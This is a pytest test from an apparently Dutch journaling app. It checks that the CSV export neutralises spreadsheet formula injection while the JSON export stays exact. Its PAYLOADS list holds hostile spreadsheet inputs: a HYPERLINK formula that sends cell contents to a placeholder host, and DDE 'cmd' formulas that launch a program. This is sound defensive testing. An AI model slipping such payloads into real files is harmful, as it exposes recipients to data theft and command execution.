"""Scenario 10 — formula cells: what someone typed in a reflection or a friction never runs in a
spreadsheet that opens the CSV export (OWASP CSV injection), and the JSON export stays exact.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from ledger import Run, Tally

from ritmeregie.storage import open_store

pytestmark = pytest.mark.reliability

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"klik")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
HARMLESS = ["Gewoon een zin", "2027-03-26", "’=geen formule", " =spatie eerst"]
RUNS_AS_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def test_csv_export_neutralises_formula_cells_and_json_stays_exact(
    data_dir: Path, ritmeregie: Run, tmp_path: Path, ledger: Callable[[str], Tally]
) -> None:
    day = dt.date(2027, 3, 1)
    with open_store(data_dir) as store:
        for n, text in enumerate(PAYLOADS + HARMLESS):
            store.reflections.save(day + dt.timedelta(days=n), text, text, text)
    ledger("10 formula cells").faults_injected += len(PAYLOADS)

    out = tmp_path / "export.csv"
    done = ritmeregie("export", "--format", "csv", "--all", "--output", str(out))
    assert done.returncode == 0, done.stderr
    cells = [
        cell
        for row in csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline=""))
        for cell in row
    ]
    running = [c for c in cells if c.startswith(RUNS_AS_FORMULA)]
    assert running == [], f"cells a spreadsheet would run: {running}"
    for text in PAYLOADS:
        assert cells.count("'" + text) == 3, text  # shown as the text it is, nothing stripped
    for text in HARMLESS:
        assert cells.count(text) == 3, text

    done = ritmeregie("export", "--format", "json", "--all")
    assert done.returncode == 0, done.stderr
    reflections = json.loads(done.stdout)["reflections"]
    assert [r["satisfied"] for r in reflections] == PAYLOADS + HARMLESS
